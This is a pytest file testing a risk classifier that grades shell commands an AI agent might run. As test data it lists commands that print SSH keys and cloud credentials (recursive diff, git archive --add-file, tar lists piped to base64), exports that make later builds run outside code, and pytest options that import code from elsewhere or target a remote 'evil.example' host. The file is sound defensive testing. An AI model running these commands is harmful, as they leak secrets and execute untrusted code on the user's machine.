"""Recursive comparisons and archivers that print credential files, pytest and tool options that run code from
outside the workspace, exported variables that last in the agent's shell, and what standing approvals of kubectl
and ssh-agent forwarding cover."""

from __future__ import annotations

from pathlib import Path

import pytest

from bot.risk import classify
from bot.risk.model import RiskLevel

W = Path("/home/dev/project")


def _rules(command: str) -> tuple[RiskLevel, set[str]]:
    graded = classify(command, contained=True, workspace=W)
    return graded.risk, {reason.rule for reason in graded.reasons}


@pytest.mark.parametrize(
    "command",
    [
        # GNU diffutils "Comparing Directories": -r compares every file below both; -N prints a file only one side
        # holds whole (diff -rN ~ EMPTY prints ~/.ssh/id_rsa)
        "diff -r ~ /",
        "diff -rN ~ /tmp/e",
        "diff -r --new-file ~ .",
        "diff -ru ~/.config /tmp/e",
        "diff --recursive /home /tmp/e",
        "diff -r -x '*.o' /etc /tmp/e",
        "diff -Nr --from-file=/home/dev /tmp/e",
        # git-diff(1) --no-index: directories are compared recursively, a file one side lacks printed whole
        "git diff --no-index ~ /tmp/e",
        "git diff --no-index ~/.config /tmp/e",
        "git diff --no-index / /tmp/e",
    ],
)
def test_a_recursive_comparison_of_a_tree_holding_credentials_is_a_secret_read(command: str) -> None:
    risk, rules = _rules(command)
    assert risk >= RiskLevel.NETWORK
    assert "secret-read" in rules


@pytest.mark.parametrize(
    "command",
    [
        "diff -r src /tmp/e",
        "diff -ru src/ other/",
        "diff a.txt b.txt",
        "diff ~/notes.txt x",
        "diff -x .git -r src lib",
        "git diff --no-index a.txt b.txt",
        "git diff --no-index src /tmp/e",
        "git diff HEAD~1 -- src",
    ],
)
def test_comparing_workspace_trees_and_files_stays_read_only(command: str) -> None:
    risk, rules = _rules(command)
    assert risk == RiskLevel.READ_ONLY, rules


@pytest.mark.parametrize(
    "command",
    [
        # git-archive(1) --add-file: "Add a non-tracked file to the archive", written to standard output
        "git archive HEAD --add-file=/home/dev/.ssh/id_rsa",
        "git archive --add-file ~/.aws/credentials HEAD",
        "git archive --add-f=/etc/shadow HEAD",
        # rsync(1) --files-from: the listed files below the source, any of them
        "rsync --files-from=list ~ .",
        "rsync --files-from list / ./x",
        # GNU tar "Reading Names from a File": -T FILE names any path
        "tar --files-from=list.txt -cf -",
        "tar -T list.txt -czf - | base64",
        # zip(1) -@: the files named on standard input
        "zip - -@ < list",
        "zip -q@ out.zip < list",
        # 7z(1): a directory operand is stored whole; @listfile and -i@listfile name any path
        "7z a out.7z ~",
        "7z a -so x ~/.config",
        "7z a x.7z @list",
        "7z a -so x -ir@list",
    ],
)
def test_an_archiver_adding_files_a_list_or_a_home_names_is_a_secret_read(command: str) -> None:
    risk, rules = _rules(command)
    assert risk >= RiskLevel.NETWORK
    assert "secret-read" in rules


@pytest.mark.parametrize(
    "command",
    [
        "git archive --add-file=README.md HEAD",
        "git archive HEAD",
        "git archive --add-virtual-file=a:b HEAD",
        "rsync --files-from=list src/ dst/",
        "tar cf out.tar -T /dev/null",
        "tar czf out.tgz src",
        "zip -r out.zip src",
        "7z a x.7z src",
        "7z l x.7z",
    ],
)
def test_an_archiver_adding_workspace_files_reads_no_secret(command: str) -> None:
    risk, rules = _rules(command)
    assert "secret-read" not in rules
    assert risk <= RiskLevel.WORKSPACE_WRITE


@pytest.mark.parametrize(
    "command",
    [
        # pytest 8+: without a configuration file the rootdir is the conftest cut-off, so --rootdir DIR imports
        # DIR/conftest.py (checked: pytest 9.2 prints what /tmp/x/conftest.py prints for --rootdir=/tmp/x)
        "pytest --rootdir=/tmp/x",
        "pytest --rootdir=/etc",
        "pytest --rootdir ~",
        "pytest --rootdir=..",
        "pytest --confcutdir=/tmp/x",
        "python3 -m pytest --rootdir=/tmp/x",
        "pytest -o addopts='--rootdir=/tmp/x'",
    ],
)
def test_pytest_rooted_outside_the_workspace_imports_code_from_there(command: str) -> None:
    risk, rules = _rules(command)
    assert risk == RiskLevel.DESTRUCTIVE
    assert "project-outside-workspace" in rules


@pytest.mark.parametrize(
    "command",
    ["pytest --rootdir=.", "pytest --rootdir=build", "pytest --confcutdir=tests", "pytest --basetemp=/tmp/x"],
)
def test_pytest_rooted_in_the_workspace_stays_a_build(command: str) -> None:
    risk, rules = _rules(command)
    assert risk == RiskLevel.WORKSPACE_WRITE, rules


def _both(command: str, root: Path) -> RiskLevel:
    """The grade on the adapter's side; the server, given what the adapter read, grades the same."""
    from bot.risk.recipes import GivenRecipes, ProjectRecipes

    read = classify(command, contained=False, workspace=root, recipes=ProjectRecipes(root))
    given = classify(command, contained=False, workspace=root, recipes=GivenRecipes(read.recipes))
    assert given.risk is read.risk, (read.reasons, given.reasons)
    return read.risk


@pytest.mark.parametrize("with_package", [True, False])
def test_npm_init_reads_the_npmrc_naming_its_init_module(tmp_path: Path, with_package: bool) -> None:
    # npm-config(7) "init-module": "A module that will be loaded by the npm init command" (checked with npm 11:
    # a project .npmrc's init-module=/tmp/x.js runs /tmp/x.js on npm init -y, with or without a package.json)
    if with_package:
        (tmp_path / "package.json").write_text('{"name": "x", "version": "1.0.0", "scripts": {"test": "jest"}}')
    for command in ("npm init -y", "npm init", "npm innit --yes"):
        assert _both(command, tmp_path) is RiskLevel.WORKSPACE_WRITE, command
    (tmp_path / ".npmrc").write_text("init-module=/tmp/x/init.js\n")
    for command in ("npm init -y", "npm init", "npm innit --yes"):
        assert _both(command, tmp_path) is RiskLevel.DESTRUCTIVE, command


@pytest.mark.parametrize(
    "command",
    [
        # each checked by hand where noted: git 2.x runs /tmp/x/config's core.fsmonitor for git status
        "export GIT_COMMON_DIR=/tmp/x",
        # GNU make 4: MAKEFLAGS=' -- SHELL=/tmp/x' runs recipes with /tmp/x; MAKEFILES=/tmp/x.mk is read first
        "export MAKEFLAGS=' -- SHELL=/tmp/x'",
        "export MAKEFLAGS='--eval=$(shell id)'",
        "export MAKEFILES=/tmp/x.mk",
        "export GCONV_PATH=/tmp/x",
        "export OPENSSL_CONF=/tmp/x.cnf",
        "export ZDOTDIR=/tmp/x",
        "export KUBECONFIG=/tmp/x",
        "export TF_CLI_CONFIG_FILE=/tmp/x.tfrc",
        "export COMPOSE_FILE=/tmp/x.yml",
        "export PIPENV_PIPFILE=/tmp/Pipfile",
        "export DIRENV_CONFIG=/tmp/x",
        "export AZURE_CONFIG_DIR=/tmp/x",
        "export HELM_PLUGINS=/tmp/x",
        "export GNUPGHOME=/tmp/x",
        "export SUDO_ASKPASS=/tmp/x",
        "export ANSIBLE_CONFIG=/tmp/x.cfg",
        "declare -x KUBECONFIG=/tmp/x",
        "MAKEFLAGS=' -- SHELL=/tmp/x' make",
        # an export lasts in the agent's shell: the next call's `just test`, `tox`, `composer test`, `rake`, `curl`,
        # `zip` reads it (just JUST_<OPTION>, tox 4 TOX_<FLAG>, Composer COMPOSER, rake RAKEOPT, curl CURL_HOME/.curlrc,
        # zip ZIPOPT -TT)
        "export JUST_JUSTFILE=/tmp/x/justfile",
        "export JUST_WORKING_DIRECTORY=/tmp/x",
        "export TOX_OVERRIDE=testenv.commands=x",
        "export TOX_CONFIG_FILE=/tmp/tox.ini",
        "export COMPOSER=/tmp/composer.json",
        "export COMPOSER_HOME=/tmp/x",
        "export RAKEOPT='-f /tmp/Rakefile'",
        "export CURL_HOME=/tmp/x",
        "export ZIPOPT='-T -TT=x'",
        "export RSYNC_CONNECT_PROG=x",
        "export BAT_PAGER='sh -c x'",
        "export CARGO_ALIAS_T='run --manifest-path /tmp/x/Cargo.toml'",  # cargo t is looked up as an alias first
        "export UV_PYTHON=/tmp/x/python",
        "export YARN_PLUGINS=/tmp/x.js",
        # runtimes that load what a variable names before the program: the next call's `dotnet test`, `mix test`,
        # `lua`, `Rscript`, `java`, `sbt test`, a ccache'd `make` runs it (.NET startup hooks and profilers, erl(1)
        # ERL_AFLAGS -eval, mix MIX_EXS, lua(1) LUA_INIT, R "Startup", ccache(1) CCACHE_PREFIX; MSBuild reads every
        # variable as a property, case-insensitively)
        "export DOTNET_STARTUP_HOOKS=/tmp/x.dll",
        "export CORECLR_PROFILER_PATH_64=/tmp/x.so",
        "export ERL_AFLAGS='-eval os:cmd(\"x\")'",
        "export ELIXIR_ERL_OPTIONS='-s x'",
        "export MIX_EXS=/tmp/x/mix.exs",
        "export LUA_INIT=@/tmp/x.lua",
        "export LUA_INIT_5_4=@/tmp/x.lua",
        "export LUA_CPATH='/tmp/?.so'",
        "export R_PROFILE_USER=/tmp/x.R",
        "export JULIA_DEPOT_PATH=/tmp/x",
        "export CLASSPATH=/tmp/x",
        "export SBT_OPTS=-javaagent:/tmp/a.jar",
        "export GHCRTS=-S/home/u/.bashrc",
        "export CCACHE_PREFIX=/tmp/x",
        "export BUNDLE_BUILD__NOKOGIRI='--with-cflags=x'",
        "export MISE_CONFIG_FILE=/tmp/x.toml",
        "export CustomBeforeMicrosoftCommonTargets=/tmp/x.targets",
        "export CUSTOMBEFOREMICROSOFTCOMMONTARGETS=/tmp/x.targets",
        "export CscToolPath=/tmp/x",
        "export DISTCC_HOSTS=example.invalid",
    ],
)
def test_exporting_a_variable_that_names_code_a_program_runs_is_destructive(command: str) -> None:
    risk, rules = _rules(command)
    assert risk == RiskLevel.DESTRUCTIVE, rules


@pytest.mark.parametrize(
    "command",
    [
        "export CONDARC=/tmp/x",
        "export POETRY_CONFIG_DIR=/tmp/x",
        "export CARGO_SOURCE_CRATES_IO_REPLACE_WITH=mirror",
        "export CONDA_PREFIX=/tmp/x",  # $CONDA_PREFIX/.condarc is read
        "export PDM_PYPI_URL=http://example.invalid/simple",
        "export COREPACK_NPM_REGISTRY=http://example.invalid",
        "export HOMEBREW_BOTTLE_DOMAIN=http://example.invalid",
    ],
)
def test_exporting_a_package_managers_configuration_chooses_the_package_source(command: str) -> None:
    graded = classify(command, contained=False, workspace=W)  # package-source: destructive on the host
    assert graded.risk == RiskLevel.DESTRUCTIVE
    assert "package-source" in {reason.rule for reason in graded.reasons}


@pytest.mark.parametrize(
    "command",
    [
        "export LANG=C",
        "export TERM=xterm",
        "export MIX_ENV=test",
        "export DOTNET_CLI_TELEMETRY_OPTOUT=1",
        "export DOTNET_NOLOGO=1",
        "export NODE_ENV=test",
        "export RUST_LOG=debug",
        "make -j4",
        "echo $KUBECONFIG",
        "export GIT_TRACE=1",
        "kubectl get pods",
        "export CI=true",
        "echo $JUST_JUSTFILE",
        "export CARGO_TERM_COLOR=always",
        "export CARGO_PROFILE_DEV_OPT_LEVEL=3",
    ],
)
def test_inert_exports_and_reading_the_variables_stay_low(command: str) -> None:
    risk, rules = _rules(command)
    assert risk <= RiskLevel.NETWORK, rules


@pytest.mark.parametrize(
    "command",
    [
        # pytest reference "Configuration Options": testpaths (checked: -o testpaths=/tmp/x runs /tmp/x/test_*.py),
        # pythonpath
        "pytest -o testpaths=/tmp/x",
        "pytest -o testpaths=../x",
        "pytest --override-ini='testpaths=tests /tmp/x'",
        "pytest -otestpaths=/tmp/x",
        "pytest -o pythonpath=/tmp --pyargs evil",
        "pytest -o addopts='-o testpaths=/tmp/x'",
        # pytest-xdist --tx: remote hosts, another interpreter, a socket server; --pdbcls imports a module
        "pytest -d --tx ssh=evil.example",
        "pytest --tx popen//python=/tmp/x",
        "pytest --tx=socket=192.0.2.1:8888",
        "pytest --pdbcls=evil:Pdb",
    ],
)
def test_pytest_collecting_or_importing_code_outside_the_workspace_is_destructive(command: str) -> None:
    risk, rules = _rules(command)
    assert risk == RiskLevel.DESTRUCTIVE, rules


def test_pytest_log_file_ini_override_writes_where_it_says() -> None:
    # pytest reference: log_file, as --log-file (graded as the command-line option is)
    assert classify("pytest -o log_file=~/.bashrc", contained=False, workspace=W).risk == RiskLevel.DESTRUCTIVE
    assert classify("pytest --log-file=~/.bashrc", contained=False, workspace=W).risk == RiskLevel.DESTRUCTIVE


@pytest.mark.parametrize(
    "command",
    [
        "pytest -o testpaths=tests",
        "pytest -o pythonpath=src",
        "pytest -o log_file=out.log",
        "pytest --tx popen",
        "pytest --tx 3*popen",
        "pytest -n 4",
        "pytest -p no:cacheprovider",
    ],
)
def test_pytest_settings_inside_the_workspace_stay_a_build(command: str) -> None:
    risk, rules = _rules(command)
    assert risk == RiskLevel.WORKSPACE_WRITE, rules


@pytest.mark.parametrize(
    ("name", "text"),
    [
        ("pytest.ini", "[pytest]\ntestpaths = /tmp/x\n"),
        ("pytest.ini", "[pytest]\ntestpaths =\n    tests\n    ../other\n"),
        ("pytest.ini", "[pytest]\npythonpath = /tmp/x\n"),
        ("pytest.ini", "[pytest]\nlog_file = /etc/cron.d/x\n"),
        ("tox.ini", "[pytest]\ntestpaths = /tmp/x\n"),
        ("pyproject.toml", '[tool.pytest.ini_options]\ntestpaths = ["tests", "/tmp/x"]\n'),
    ],
)
def test_a_workspace_pytest_configuration_pointing_outside_is_graded_as_the_command_line(
    tmp_path: Path, name: str, text: str
) -> None:
    # pytest reference, "Configuration Options": testpaths, pythonpath (code run from there), log_file (written)
    (tmp_path / name).write_text(text)
    assert _both("pytest", tmp_path) is RiskLevel.DESTRUCTIVE
    assert _both("pytest tests", tmp_path) is RiskLevel.DESTRUCTIVE


@pytest.mark.parametrize(
    ("name", "text"),
    [
        ("pytest.ini", "[pytest]\ntestpaths = tests\naddopts = -q\n"),
        ("pytest.ini", "[pytest]\npythonpath = src\nlog_file = out.log\n"),
        ("pyproject.toml", '[tool.pytest.ini_options]\ntestpaths = ["tests"]\n'),
    ],
)
def test_a_workspace_pytest_configuration_inside_stays_a_build(tmp_path: Path, name: str, text: str) -> None:
    (tmp_path / name).write_text(text)
    assert _both("pytest", tmp_path) is RiskLevel.WORKSPACE_WRITE


@pytest.mark.parametrize(
    "command",
    [
        # kubectl options: --profile-output "Name of the file to write the profile to"; --cache-dir the caches
        "kubectl get pods --profile=cpu --profile-output=/home/dev/.bashrc",
        "kubectl get pods --profile-output /home/dev/.bashrc --profile cpu",
        "kubectl --cache-dir=/home/dev/.ssh get pods",
    ],
)
def test_kubectl_global_options_write_where_they_say(command: str) -> None:
    assert classify(command, contained=False, workspace=W).risk == RiskLevel.DESTRUCTIVE


@pytest.mark.parametrize(
    "command",
    ["kubectl get pods --profile=cpu --profile-output=prof.out", "kubectl get pods --cache-dir=/tmp/kc"],
)
def test_kubectl_profile_or_cache_in_the_workspace_or_temp_stays_a_read(command: str) -> None:
    assert classify(command, contained=False, workspace=W).risk == RiskLevel.NETWORK


@pytest.mark.parametrize(
    ("command", "rule"),
    [
        ("pv -o /home/dev/.bashrc x", "protected-path-write"),  # pv(1) 1.8: -o/--output FILE, truncated
        ("pv --output=/etc/cron.d/x x", None),
        ("pyright --pythonpath /tmp/x", "runs-program"),  # pyright runs the interpreter it is given
    ],
)
def test_catalogue_options_that_write_or_run_are_destructive(command: str, rule: str | None) -> None:
    graded = classify(command, contained=False, workspace=W)
    assert graded.risk == RiskLevel.DESTRUCTIVE
    if rule is not None:
        assert rule in {reason.rule for reason in graded.reasons}, graded.reasons


@pytest.mark.parametrize("command", ["xmllint --noent x.xml", "xmllint --xinclude x.xml"])
def test_xmllint_substituting_entities_prints_files_the_document_names(command: str) -> None:
    # an external entity SYSTEM "file:///home/dev/.ssh/id_rsa" or <xi:include parse="text"> in a workspace file
    risk, rules = _rules(command)
    assert risk >= RiskLevel.NETWORK
    assert "secret-read" in rules


@pytest.mark.parametrize(
    "command", ["pv x", "pv -o out.bin x", "xmllint --noout x.xml", "xmllint --format x.xml", "pyright"]
)
def test_catalogue_plain_uses_stay_low(command: str) -> None:
    risk, rules = _rules(command)
    assert risk <= RiskLevel.WORKSPACE_WRITE, rules


@pytest.mark.parametrize(
    "command",
    [
        # find(1) enters hidden directories: from the workspace's top, .git/config is among the files (as grep -r x .)
        "find . -type f -exec cat {} +",
        "find -type f -exec head {} \\;",
        "find . -name 'conf*' -exec cat {} +",
        "find . -type f -exec grep url {} +",
        "find . -type f -exec grep -l foo {} +",  # which files hold the pattern: one bit of each, as grep -rl foo .
        # fd(1) -H/--hidden, -u: hidden directories too
        "fd -H . -X cat",
        "fd -u . -x cat",
        "fd -H . -X grep -l foo",
    ],
)
def test_printing_every_file_below_the_workspace_top_reads_the_git_config(command: str) -> None:
    risk, rules = _rules(command)
    assert risk >= RiskLevel.NETWORK
    assert "secret-read" in rules


@pytest.mark.parametrize(
    "command",
    [
        "find . -name '*.py' -exec cat {} +",
        "find . -path ./.git -prune -o -type f -exec cat {} +",
        "find src -type f -exec cat {} +",
        "find . -type f -exec wc -l {} +",
        "fd . -X cat",
        "fd -e py . -X cat",
    ],
)
def test_printing_files_that_cannot_be_the_git_config_stays_read_only(command: str) -> None:
    risk, rules = _rules(command)
    assert risk == RiskLevel.READ_ONLY, rules


def test_kubectl_klog_file_options_write_where_they_say() -> None:
    # klog's --log-file (kubectl before 1.26)
    graded = classify("kubectl get pods --log-file=/home/dev/.bashrc", contained=False, workspace=W)
    assert graded.risk == RiskLevel.DESTRUCTIVE
    assert classify("kubectl get pods --log-file=k.log", contained=False, workspace=W).risk == RiskLevel.NETWORK


@pytest.mark.parametrize("mode", ["000", "0", "001", "004", "u=rwx,g=rwx,o=rwx", "$M"])
def test_a_umask_that_may_leave_files_world_writable_is_system(mode: str) -> None:
    # the mask lasts in an agent's persistent shell: later files (in the home too) become writable by every user
    assert classify(f"umask {mode}", contained=False, workspace=W).risk == RiskLevel.SYSTEM


@pytest.mark.parametrize("mode", ["022", "0022", "002", "077"])
def test_a_umask_keeping_others_from_writing_stays_a_workspace_write(mode: str) -> None:
    assert classify(f"umask {mode}", contained=False, workspace=W).risk == RiskLevel.WORKSPACE_WRITE


@pytest.mark.parametrize(
    "path",
    [
        "serviceAccountKey.json",  # Firebase Admin SDK setup's name for the key
        "config/ServiceAccount.json",
        "my-proj-firebase-adminsdk-abc12-0123456789.json",  # the name Firebase generates
        ".dockerconfigjson",  # a docker-registry Secret's key file
    ],
)
def test_workspace_key_files_by_their_usual_names_are_secret_reads(path: str) -> None:
    risk, rules = _rules(f"cat {path}")
    assert risk >= RiskLevel.NETWORK
    assert "secret-read" in rules


@pytest.mark.parametrize("path", ["firebase.json", "account.json", "AccountController.java"])
def test_workspace_files_named_like_them_but_holding_no_key_stay_read_only(path: str) -> None:
    assert _rules(f"cat {path}")[0] == RiskLevel.READ_ONLY
